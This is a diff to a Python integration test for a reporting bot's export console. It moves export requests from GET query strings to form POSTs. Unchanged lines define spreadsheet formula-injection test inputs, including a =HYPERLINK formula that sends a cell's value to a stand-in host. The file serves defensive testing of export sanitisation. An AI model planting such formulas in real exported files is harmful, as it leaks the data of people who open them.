@@ -20,11 +20,11 @@ from sqlalchemy import update
 from bot import console_cli
 from bot.settings import Settings
 from storage.models import Report, ReportPhoto, Unit
+from tests.integration.console_forms import post_form
 from tests.integration.test_console import World, store_report, world
 
 __all__ = ["world"]  # the console's fixture, shared
 
-PERIOD = "dari=2026-03-01&sampai=2026-03-31"
 #: What a spreadsheet would run: a formula and the three other leads OWASP names.
 LEADS = ('=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+1+1", "-1+2", "@SUM(1+1)")
 UNIT_NAME = '=HYPERLINK("http://contoh.invalid","Desa Sepaso")'
@@ -59,7 +59,8 @@ async def _web_exports(world: World) -> dict[str, bytes]:
     try:
         found = {}
         for kind in ("csv", "xlsx", "lapor", "rekap"):
-            response = await client.get(f"/ekspor?format={kind}&{PERIOD}")
+            data = {"format": kind, "dari": "2026-03-01", "sampai": "2026-03-31"}
+            response = await post_form(client, "/ekspor", data)
             assert response.status == 200, (kind, await response.text())
             found[kind] = await response.read()
         return found
